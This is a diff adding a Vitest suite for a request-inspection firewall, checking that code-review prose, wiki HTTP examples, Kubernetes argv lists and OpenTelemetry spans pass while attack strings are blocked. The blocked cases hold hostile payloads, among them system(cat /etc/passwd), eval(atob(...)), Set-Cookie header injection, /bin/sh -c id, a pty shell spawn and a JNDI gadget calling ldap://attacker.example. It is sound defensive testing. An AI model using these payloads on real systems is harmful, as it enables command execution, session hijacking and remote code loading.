@@ -1,0 +1,145 @@
+// Code-review comments, tickets and docs that name what they warn about: platform teams paste these
+// into review APIs, issue trackers and wiki pages (JSON), comment forms and search boxes. Hand-written
+// cases of families once blocked at paranoia 1, each beside the attacks its fix must keep blocking.
+import { beforeAll, describe, expect, it } from "vitest";
+import { loadHarness, type Harness } from "../support/harness.js";
+import { inspect, type Req } from "../support/engine.js";
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const json = (text: string): Req => ({ method: "POST", path: "/api/v4/projects/12/merge_requests/7/notes", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ body: text, line: 42 }) });
+const form = (text: string): Req => ({ method: "POST", path: "/tickets/31/comments", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: new URLSearchParams({ author: "ann", comment: text }).toString() });
+const search = (text: string): Req => ({ method: "GET", path: `/search?q=${encodeURIComponent(text)}`, headers: [["host", "svc.local"]] });
+const CARRIERS = { json, form, search };
+
+const verdict = (req: Req) => {
+  const v = inspect(h, req);
+  return { blocked: v.score >= 5, why: v.matches.map((m) => `${m.id}[${m.fragment}]`).join(" ") };
+};
+
+// A call's `(` followed by plain words and never closed: three bare words are no PHP or JS expression.
+const CALL_PROSE = [
+  "nit: exec( with user input is risky, please validate first",
+  "Reviewer: exec( is called with untrusted input on line 42, please use execFile instead",
+  "Please don't use eval( on request data.",
+  "passthru( here runs a shell, so the quoting matters",
+];
+const CALL_ATTACKS = [
+  "exec(ls -la",
+  "system(cat /etc/passwd",
+  ";system(id);",
+  "passthru( whoami )",
+  "exec( with user input )",
+  "eval(atob('YWxlcnQoMSk='))",
+  "x=1;eval(name)",
+  "eval( String.fromCharCode(97,108) )",
+];
+
+describe.each(Object.entries(CARRIERS))("review prose in %s", (_, carrier) => {
+  it.each(CALL_PROSE)("passes: %s", (text) => {
+    const v = verdict(carrier(text));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each(CALL_ATTACKS)("blocks: %s", (text) => {
+    expect(verdict(carrier(text)).blocked).toBe(true);
+  });
+});
+
+// Requests and headers quoted in a Markdown fenced block of a docs or wiki page (JSON page API).
+const page = (text: string): Req => ({ method: "PUT", path: "/wiki/api/pages/http-basics", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ title: "HTTP basics", body: text }) });
+const FENCED = [
+  "A minimal request looks like this:\n\n```http\nGET /index.html HTTP/1.1\nHost: www.example.com\nAccept: */*\n```\n\nThe server answers with a status line.",
+  "Create an order:\n\n```\nPOST /api/v1/orders HTTP/1.1\nHost: orders.svc\nContent-Type: application/json\n\n{\"id\": 1}\n```\n",
+  "Probe it by hand:\n~~~\nGET /healthz HTTP/1.1\r\nHost: api.payments.svc.cluster.local\r\n~~~\nthen check the logs.",
+];
+const UNFENCED = [
+  "x\nSet-Cookie: admin=1",
+  "See below\n```\nHost: a.example\n```\nSet-Cookie: admin=1", // after the block closes
+  "See below\n```http\nGET / HTTP/1.1\nHost: a.example\n", // a fence never closed
+  "```\n```\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n",
+  "foo HTTP/1.1\r\nHost: x\r\n\r\nGET /admin HTTP/1.1\r\nHost: y",
+  "GET /index.html HTTP/1.1\nHost: www.example.com",
+];
+
+describe("HTTP quoted in a page's fenced code block", () => {
+  it.each(FENCED)("passes: %j", (text) => {
+    const v = verdict(page(text));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each(UNFENCED)("blocks: %j", (text) => {
+    expect(verdict(page(text)).blocked).toBe(true);
+  });
+  // A browser skips a response header line without a colon: a fence is no quotation in a value a
+  // service may copy into a response header (a query, form or cookie value), only in a page's body.
+  const splitting = "x\r\n```\r\nSet-Cookie: sess=evil\r\n```";
+  it.each<[string, Req]>([
+    ["a query", { path: `/login?next=${encodeURIComponent(splitting)}` }],
+    ["a form", { method: "POST", path: "/login", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: `user=a&next=${encodeURIComponent(splitting)}` }],
+    ["a cookie", { headers: [["host", "svc.local"], ["cookie", `lang=${encodeURIComponent(splitting)}`]] }],
+  ])("blocks a fenced header injection in %s", (_, req) => {
+    expect(verdict(req).blocked).toBe(true);
+  });
+});
+
+// An argv at the head of a JSON list (exec form: pod specs, admission reviews, Dockerfile JSON) runs no shell.
+const kube = (body: object): Req => ({ method: "POST", path: "/validate", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify(body) });
+const review = (command: string[]) => kube({ apiVersion: "admission.k8s.io/v1", kind: "AdmissionReview", request: { uid: "7f0c", object: { kind: "Pod", spec: { containers: [{ name: "init", image: "busybox:1.36", command }] } } } });
+const ARGV = [
+  ["/bin/sh", "-c", "until nslookup db; do sleep 2; done"],
+  ["/sbin/tini", "--", "/usr/local/bin/api", "--port=8080"],
+  ["/bin/grpc_health_probe", "-addr=:9000"],
+  ["/usr/bin/python3", "-m", "http.server", "8080"],
+];
+
+describe("argv lists in Kubernetes objects", () => {
+  it.each(ARGV.map((a) => [a.join(" "), a] as const))("passes: %s", (_, argv) => {
+    const v = verdict(review(argv));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    [{ cmd: "/bin/sh" }], // a whole value, not a list
+    [{ command: ["/bin/s'h'", "-c", "x"] }], // spelled with shell quoting
+    [{ command: ["/bin/sh -c id"] }], // a command line in one string
+    [{ command: ["/bin/sh;id"] }],
+    [{ items: ["a", "/bin/bash"] }], // not the list's head
+    [{ command: ["/bin/sh", "-c", "cat /etc/passwd"] }],
+    [{ exe: "/usr/local/bin/python -c 'import pty; pty.spawn(\"/bin/sh\")'" }], // a deep program path with arguments
+    [{ exe: "/opt/java/openjdk/bin/java;id" }],
+  ])("blocks: %j", (body) => {
+    expect(verdict(kube(body)).blocked).toBe(true);
+  });
+});
+
+// OTLP/JSON exports: spans with SQL statements, logs with Java stack traces (generated classes print `(File.java)`).
+const attr = (key: string, value: string) => ({ key, value: { stringValue: value } });
+const otlp = (attrs: { key: string; value: { stringValue: string } }[]): Req => ({
+  method: "POST", path: "/v1/traces", headers: [["host", "otel-collector.observability"], ["content-type", "application/json"]],
+  body: JSON.stringify({ resourceSpans: [{ resource: { attributes: [attr("service.name", "orders"), attr("k8s.pod.name", "orders-7d9f-abc")] }, scopeSpans: [{ scope: { name: "io.opentelemetry.jdbc" }, spans: [{ traceId: "5b8efff798038103d269b633813fc60c", spanId: "eee19b7ec3c1b174", name: "SELECT orders", kind: 3, attributes: attrs }] }] }] }),
+});
+const OTLP = [
+  [attr("db.system", "postgresql"), attr("db.statement", "SELECT * FROM users WHERE id = ?"), attr("code.namespace", "com.example.UserRepository"), attr("thread.name", "http-nio-8080-exec-1")],
+  [attr("db.system", "postgresql"), attr("db.statement", "SELECT o.id, SUM(i.price) FROM orders o JOIN items i ON i.order_id = o.id WHERE o.user_id = $1 GROUP BY o.id")],
+  [attr("exception.type", "java.sql.SQLSyntaxErrorException"), attr("exception.stacktrace", "java.sql.SQLSyntaxErrorException: bad SQL\n\tat com.mysql.cj.jdbc.ClientPreparedStatement.executeQuery(ClientPreparedStatement.java:1009)\n\tat com.zaxxer.hikari.pool.HikariProxyPreparedStatement.executeQuery(HikariProxyPreparedStatement.java)\n\tat com.example.OrderRepository.find(OrderRepository.java:42)")],
+  // resource attributes every SDK exports: their keys are values of `key`
+  [attr("process.pid", "1"), attr("process.executable.path", "/opt/java/openjdk/bin/java"), attr("process.executable.name", "java"), attr("process.runtime.name", "OpenJDK Runtime Environment"), attr("process.runtime.version", "21.0.2+13-LTS"), attr("process.owner", "app"), attr("process.command", "node")],
+];
+
+describe("OpenTelemetry exports", () => {
+  it.each(OTLP.map((a, i) => [i, a] as const))("passes: span %i", (_, attrs) => {
+    const v = verdict(otlp(attrs));
+    expect(v.blocked, v.why).toBe(false);
+  });
+  it.each([
+    [{ "@type": "com.zaxxer.hikari.HikariConfig", metricRegistry: "ldap://attacker.example/a" }],
+    [{ x: "com.zaxxer.hikari.HikariConfig" }],
+    [{ x: "com.zaxxer.hikari.HikariConfig.setMetricRegistry(\"ldap://a.example/x\")" }],
+    [{ key: "process.env" }],
+    [{ key: "process.env.DATABASE_URL" }],
+    [{ key: "process.mainModule" }],
+  ])("blocks the gadget outside a frame, process internals: %j", (body) => {
+    expect(verdict(kube(body)).blocked).toBe(true);
+  });
+});
